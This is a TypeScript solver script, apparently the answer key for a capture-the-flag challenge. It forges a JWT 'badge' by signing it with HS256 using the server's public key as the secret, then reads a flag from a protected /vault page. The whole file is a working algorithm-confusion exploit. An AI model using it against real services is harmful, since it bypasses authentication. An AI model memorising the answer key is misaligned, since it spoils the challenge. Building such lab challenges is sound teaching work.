import { createHmac } from 'node:crypto'
import type { Solve } from '../../src/solution.ts'

/** Signs a smith's badge with HS256, using the public key's text as the secret. */
export const solve: Solve = async ({ baseUrl, headers = {} }) => {
  const key = await (await fetch(`${baseUrl}/forge.pub`, { headers })).text()
  const encode = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url')
  const body = `${encode({ alg: 'HS256', typ: 'JWT' })}.${encode({ name: 'me', role: 'smith' })}`
  const badge = `${body}.${createHmac('sha256', key).update(body).digest('base64url')}`
  const page = await (await fetch(`${baseUrl}/vault`, { headers: { ...headers, 'x-badge': badge } })).text()
  const found = /<pre>([a-z2-7]{26})<\/pre>/.exec(page)?.[1]
  if (!found) throw new Error('the vault stays shut')
  return [found]
}
